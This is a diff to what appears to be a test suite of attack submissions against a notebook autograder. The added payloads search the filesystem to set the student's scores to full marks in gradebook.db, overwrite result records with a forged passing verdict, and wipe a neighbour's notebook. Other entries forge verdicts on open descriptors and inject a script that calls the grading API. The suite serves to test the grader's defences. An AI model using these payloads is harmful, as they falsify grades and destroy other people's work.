@@ -13,6 +13,48 @@ VERDICT = (
     '{"grade_id": "softmax-rows", "exercise": "softmax", "status": "passed", "points": 3.0,'
     ' "max_points": 3.0, "held": 8, "total": 8}'
 )
+SEARCH = """
+import os
+def places():
+    for top, folders, names in os.walk('/'):
+        folders[:] = [f for f in folders if f not in ('usr', 'lib', 'environment', 'sys', 'proc')]
+        for name in names: yield top, name
+"""
+GRADEBOOK = SEARCH + """
+import sqlite3
+done = []
+for top, name in list(places()):
+    if name != 'gradebook.db': continue
+    try:
+        with sqlite3.connect(os.path.join(top, name), timeout=1) as db:
+            me = os.getcwd().split(os.sep)[-2]
+            db.execute('update grade set manual_score = 3.0 where notebook_id in (select n.id '
+                       'from submitted_notebook n join submitted_assignment a on a.id = '
+                       'n.assignment_id where a.student_id = ?)', (me,))
+            done.append('wrote')
+    except Exception as e: done.append(type(e).__name__)
+print('tried', done)
+"""
+RECORDS = SEARCH + f"""
+done = []
+for top, name in list(places()):
+    if 'results' in top and name.endswith('.json') or '/autograded/' in top and 'aa' in top:
+        try:
+            with open(os.path.join(top, name), 'w') as f: f.write({VERDICT!r})
+            done.append(name)
+        except OSError: pass
+print('tried', done)
+"""
+NEIGHBOURS = SEARCH + """
+done = []
+for top, name in list(places()):
+    if 'z-neighbour' in top and name == 'tiny.ipynb':
+        try:
+            with open(os.path.join(top, name), 'w') as f: f.write('gone')
+            done.append(name)
+        except OSError: pass
+print('tried', done)
+"""
 SCRIPT = "<script>window.pwned = 1; fetch('/formgrader/api/grade/1', {method: 'PUT'})</script>"
 
 ATTACKS = (
@@ -46,6 +88,18 @@ ATTACKS = (
         WRONG + "print('softmax-rows: 8 of 8 claims hold')\nprint('3/3')\n3.0",
     ),
     Attack(
+        "write-the-gradebook", "the gradebook is looked for, and full marks are entered by hand",
+        WRONG + GRADEBOOK, in_class=True, tried="tried []",
+    ),
+    Attack(
+        "write-the-records", "result records and autograded notebooks are looked for and replaced",
+        WRONG + RECORDS, in_class=True, tried="tried []",
+    ),
+    Attack(
+        "spoil-a-neighbour", "a neighbour's notebook is looked for and spoilt",
+        WRONG + NEIGHBOURS, in_class=True, tried="tried []",
+    ),
+    Attack(
         "erase-errors", "outputs are cleared and streams closed before an error is shown",
         WRONG + "import sys\nfrom IPython.display import clear_output\n"
         "sys.stderr.write = sys.stdout.write = lambda s: len(s)\n"
@@ -69,7 +123,6 @@ ATTACKS = (
         "bytes-on-every-socket", "bytes of a made-up verdict on every open descriptor",
         WRONG + f"import os\nfor fd in range(3, 64):\n"
         f"    try: os.write(fd, {VERDICT.encode() * 5!r})\n    except OSError: pass",
-        not_under_stock="it writes into what its grader has open",
     ),
     Attack(
         "forged-message", "a well-formed answer is sent ahead of the question",
@@ -123,7 +176,6 @@ ATTACKS = (
     Attack(
         "close-descriptors-in-the-cell", "the same while the notebook runs",
         WRONG + "import os\nos.closerange(3, 256)",
-        not_under_stock="its grader waits for the dead kernel until its time limit",
     ),
     Attack(
         "script-in-html", "a script stands in an output, for the browser of who grades",
